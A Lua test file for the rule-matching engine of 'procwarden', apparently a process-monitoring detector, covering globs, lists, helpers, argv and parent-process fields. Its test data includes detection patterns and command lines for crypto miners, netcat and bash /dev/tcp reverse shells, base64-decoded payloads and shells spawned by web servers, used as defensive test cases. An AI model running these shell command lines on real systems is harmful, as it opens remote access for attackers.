-- match_spec.lua: match values (globs, numbers, lists, sets, functions,
-- helpers), list-valued fields (argv, args, ancestors) and dotted keys into
-- process objects, through procwarden.testing. Events are recorded tables,
-- so process objects are given as nested tables (parent = { exe = ... }).
package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
package.cpath = (os.getenv("PW_BUILD") or "build") .. "/lua/?.so;" .. package.cpath
local testing = require "procwarden.testing"

-- Load `rule { name = "t", on = <on>, match = { <entry> } }` and report,
-- for each event, whether the rule fired (no handler error allowed).
local function fires(entry, events, on)
  local p = testing.load_string(("rule { name = \"t\", on = %q, match = { %s } }"):format(on or "exec", entry), "m")
  local out = {}
  for i, ev in ipairs(events) do
    p:reset()
    local e = {}
    for k, v in pairs(ev) do e[k] = v end
    e.type = e.type or on or "exec"
    p:feed(e)
    assert.same({}, p:errors())
    out[i] = (p:fired("t"))
  end
  return out
end

-- fires() for one field given a list of values (nil: the field is absent).
local function on_values(entry, field, values, n)
  local events = {}
  for i = 1, n or #values do events[i] = { [field] = values[i] } end
  return fires(entry, events)
end

describe("glob strings", function()
  it("match the whole value, and * crosses directories", function()
    assert.same({ true, true, false, false, false },
      on_values([[exe = "*/xmrig"]], "exe",
        { "/tmp/xmrig", "/home/u/.cache/a/b/xmrig", "/tmp/xmrig2", "xmrig", "/tmp/xmrig/run" }))
  end)

  it("are case-sensitive", function()
    assert.same({ true, false, false },
      on_values([[exe = "*/xmrig"]], "exe", { "/tmp/xmrig", "/tmp/XMRIG", "/tmp/Xmrig" }))
  end)

  it("? matches exactly one character", function()
    assert.same({ true, true, false, false },
      on_values([[exe = "/bin/?s"]], "exe", { "/bin/ls", "/bin/ps", "/bin/s", "/bin/lss" }))
  end)

  it("[...] matches one character of a set, a range or a negated set", function()
    assert.same({ true, true, false, false },
      on_values([[exe = "/usr/bin/python[23]"]], "exe",
        { "/usr/bin/python2", "/usr/bin/python3", "/usr/bin/python4", "/usr/bin/python33" }))
    assert.same({ true, false },
      on_values([[exe = "/usr/bin/python[0-9].[0-9]*"]], "exe", { "/usr/bin/python3.11", "/usr/bin/pythonX.1" }))
    assert.same({ true, false }, on_values([[exe = "/tmp/[!.]*"]], "exe", { "/tmp/x", "/tmp/.hidden" }))
  end)

  it("a backslash makes a glob character literal", function()
    assert.same({ true, false }, on_values([[exe = "/tmp/a\\*b"]], "exe", { "/tmp/a*b", "/tmp/axb" }))
  end)

  it("a plain string is plain equality", function()
    assert.same({ true, false, false, false }, on_values([[comm = "sh"]], "comm", { "sh", "bash", "sh ", "SH" }))
  end)

  it("treats Lua pattern characters as literal text", function()
    assert.same({ true, false, false },
      on_values([[exe = "*/a.b+c%d(x)"]], "exe", { "/opt/a.b+c%d(x)", "/opt/aXbbc5x", "/opt/a.b+c%d" }))
    assert.same({ true, false }, on_values([[cmdline = "x.-y"]], "cmdline", { "x.-y", "xaaay" }))
  end)

  it("does not match an absent field (and does not fail on it)", function()
    assert.same({ false, true }, on_values([[tty = "pts/*"]], "tty", { nil, "pts/3" }, 2))
  end)

  it("does not match a number", function()
    assert.same({ false }, fires([[uid = "1*"]], { { uid = 1000 } }))
  end)
end)

describe("numbers", function()
  it("match by equality", function()
    assert.same({ true, false, false }, on_values([[uid = 0]], "uid", { 0, 1000, nil }, 3))
  end)

  it("catch a setuid change through euid on uid events", function()
    assert.same({ true, false }, fires([[euid = 0, ruid = not_(0)]], {
      { ruid = 1000, euid = 0 }, { ruid = 0, euid = 0 },
    }, "uid"))
  end)

  it("match kernel fields of the event type, such as exit_status", function()
    assert.same({ true, false }, fires([[exit_status = 127]], { { exit_status = 127 }, { exit_status = 0 } }, "exit"))
  end)
end)

describe("lists", function()
  it("hold when any element matches", function()
    assert.same({ true, true, false },
      on_values([[exe = { "*/xmrig", "*/minerd" }]], "exe", { "/tmp/xmrig", "/opt/minerd", "/bin/ls" }))
    assert.same({ true, true, false }, on_values([[uid = { 0, 1000 }]], "uid", { 0, 1000, 1001 }))
  end)

  it("may mix globs, numbers and helpers", function()
    assert.same({ true, true, false },
      on_values([[exe = { "*/nc", prefix "/tmp/" }]], "exe", { "/usr/bin/nc", "/tmp/a/b", "/usr/bin/ls" }))
  end)

  it("a long list of plain strings is a set of exact values", function()
    local names = {}
    for i = 1, 2000 do names[i] = ("%q"):format("/opt/tool" .. i) end
    local entry = "exe = { " .. table.concat(names, ", ") .. " }"
    assert.same({ true, true, false, false },
      on_values(entry, "exe", { "/opt/tool1", "/opt/tool2000", "/opt/tool2001", "/opt/tool*" }))
  end)

  it("a long list with a glob in it still globs", function()
    assert.same({ true, true, false },
      on_values([[exe = { "/a", "/b", "/c", "/d", "/e", "*/nc" }]], "exe", { "/c", "/usr/bin/nc", "/usr/bin/ncat" }))
  end)

  it("an empty list is a load error", function()
    assert.equal("m:1: rule t: match.exe: an empty list matches nothing",
      testing.load_error([[rule { name = "t", on = "exec", match = { exe = {} } }]], "m"))
  end)
end)

describe("functions", function()
  it("get the field's value and the event", function()
    assert.same({ true, false, false }, fires([[exe = function(v, e) return v == "/bin/sh" and e.uid == 0 end]], {
      { exe = "/bin/sh", uid = 0 }, { exe = "/bin/sh", uid = 1000 }, { exe = "/bin/bash", uid = 0 },
    }))
  end)

  it("get nil for an absent field", function()
    assert.same({ true, false }, on_values([[cwd = function(v) return v == nil end]], "cwd", { nil, "/root" }, 2))
  end)

  it("that raise make the event an error of that rule", function()
    local p = testing.load_string [[
      rule { name = "t", on = "exec", match = { exe = function() error("matcher broke") end } }
    ]]
    p:feed { type = "exec", exe = "/bin/true" }
    assert.is_false((p:fired("t")))
    assert.equal(1, #p:errors())
    assert.equal("t", p:errors()[1].rule)
    assert.matches("matcher broke", p:errors()[1].error, 1, true)
  end)
end)

describe("helpers", function()
  it("prefix is a literal prefix", function()
    assert.same({ true, false, false, true, false },
      on_values([[exe = prefix "/tmp/[a]*"]], "exe", { "/tmp/[a]*x", "/tmp/ab", nil, "/tmp/[a]*", "/var/tmp/[a]*" }, 5))
  end)

  it("suffix is a literal suffix", function()
    assert.same({ true, false, false },
      on_values([[exe = suffix ".sh"]], "exe", { "/x/run.sh", "/x/run.shx", "/x/runxsh" }))
  end)

  it("contains is a literal substring", function()
    assert.same({ true, true, false },
      on_values([[cmdline = contains "a.b"]], "cmdline", { "xx a.b yy", "a.b", "xx axb yy" }))
  end)

  it("iglob is a case-insensitive glob", function()
    assert.same({ true, true, false },
      on_values([[exe = iglob "*/XMRIG"]], "exe", { "/tmp/xmrig", "/tmp/XmRiG", "/tmp/xmrig2" }))
  end)

  it("oneof is a set of exact values", function()
    assert.same({ true, true, false, false },
      on_values([[comm = oneof { "sh", "bash", "*" }]], "comm", { "bash", "*", "zsh", "x" }))
  end)

  it("not_ negates a glob, a list or another helper", function()
    assert.same({ true, false }, on_values([[exe = not_ "*/sh"]], "exe", { "/bin/bash", "/bin/sh" }))
    assert.same({ false, false, true },
      on_values([[exe = not_ { "/bin/sh", "/bin/bash" }]], "exe", { "/bin/sh", "/bin/bash", "/bin/dash" }))
    assert.same({ false, true }, on_values([[exe = not_(prefix "/usr/")]], "exe", { "/usr/bin/id", "/tmp/id" }))
  end)

  it("refuse bad arguments at load, at the caller's line", function()
    assert.equal("m:2: prefix: expects a string", testing.load_error("x = 1\nlocal p = prefix(5)", "m"))
    assert.equal("m:1: oneof: expects a list", testing.load_error([[local s = oneof "sh"]], "m"))
    assert.equal("m:1: not_: expects a match value", testing.load_error([[local n = not_ {}]], "m"))
  end)
end)

describe("list-valued fields", function()
  it("argv matches when any argument matches, argv[0] included", function()
    assert.same({ true, false, true, false }, on_values([[argv = "-e"]], "argv", {
      { "nc", "-l", "-e", "/bin/sh" }, { "nc", "-le" }, { "-e" }, {},
    }))
  end)

  it("argv takes globs, lists and helpers per element", function()
    assert.same({ true, false },
      on_values([[argv = "*base64*"]], "argv", { { "sh", "-c", "echo x | base64 -d" }, { "sh", "-c", "id" } }))
    assert.same({ true, true, false }, on_values([[argv = { "-e", "-c" }]], "argv", {
      { "nc", "-e", "x" }, { "sh", "-c", "id" }, { "sh", "-x" },
    }))
    assert.same({ true, false },
      on_values([[argv = contains "/dev/tcp/"]], "argv", { { "bash", "-i", ">&/dev/tcp/1.2.3.4/80" }, { "bash" } }))
  end)

  it("args leaves argv[0] out", function()
    assert.same({ false, true }, fires([[args = "nc"]], { { argv = { "nc", "x" } }, { argv = { "sudo", "nc" } } }))
  end)

  it("cmdline is argv joined by single spaces, matched as one string", function()
    assert.same({ true, false },
      fires([[cmdline = "*-e /bin/sh*"]],
        { { argv = { "nc", "-l", "-e", "/bin/sh" } }, { argv = { "nc", "-e", "x" } } }))
  end)

  it("ancestors.<field> holds when any ancestor's field matches", function()
    assert.same({ true, true, false, false }, fires([[ ["ancestors.comm"] = "sshd" ]], {
      { ancestors = { { comm = "bash" }, { comm = "sshd" }, { comm = "systemd" } } },
      { ancestors = { { comm = "sshd" } } },
      { ancestors = { { comm = "bash" }, { comm = "cron" } } },
      {},
    }))
  end)
end)

describe("dotted keys", function()
  it("parent.exe matches the parent's executable", function()
    assert.same({ true, true, false, false }, fires([[ ["parent.exe"] = { "*/httpd", "*/nginx" } ]], {
      { parent = { exe = "/usr/sbin/nginx" } }, { parent = { exe = "/usr/sbin/httpd" } },
      { parent = { exe = "/usr/sbin/sshd" } }, {},
    }))
  end)

  it("combine with other entries and helpers", function()
    assert.same({ true, false, false }, fires(
      [[ exe = { "*/sh", "*/bash", "*/dash" }, ["parent.exe"] = suffix "/nginx", ["parent.uid"] = not_(0) ]], {
        { exe = "/bin/sh", parent = { exe = "/usr/sbin/nginx", uid = 33 } },
        { exe = "/bin/sh", parent = { exe = "/usr/sbin/nginx", uid = 0 } },
        { exe = "/bin/ls", parent = { exe = "/usr/sbin/nginx", uid = 33 } },
      }))
  end)

  it("tracer.exe matches the tracer on ptrace events", function()
    assert.same({ true, false, false }, fires([[ ["tracer.exe"] = not_ "/usr/bin/gdb" ]], {
      { tracer_pid = 5, tracer = { exe = "/tmp/inject" } }, { tracer_pid = 5, tracer = { exe = "/usr/bin/gdb" } },
      { tracer_pid = 0 },
    }, "ptrace"))
  end)
end)

describe("matching stays linear", function()
  local big = ("a"):rep(128 * 1024)

  it("a multi-star glob over a 128 KB argument completes and is correct", function()
    assert.same({ false, true, true }, on_values([[argv = "*a*a*a*a*a*a*b"]], "argv", {
      { "x", big }, { "x", big .. "b" }, { "x", "b" .. big .. "ab" },
    }))
    assert.same({ true }, on_values([[argv = "*a*a*a*a*a*a*"]], "argv", { { "x", big } }))
  end)

  it("globs that would backtrack as Lua patterns are fine on a 128 KB subject", function()
    local chunk = ("base64 "):rep(128 * 1024 // 7)
    assert.same({ false, true }, on_values([[cmdline = "*base64*-d*"]], "cmdline", { chunk, chunk .. "-d" }))
    assert.same({ false, true },
      on_values([[exe = "*a-a-a-a-b*"]], "exe", { ("a-"):rep(64 * 1024), ("a-"):rep(64 * 1024) .. "a-b" }))
    assert.same({ false, true }, on_values([[exe = iglob "*A*A*A*A*B"]], "exe", { big, big .. "B" }))
  end)
end)
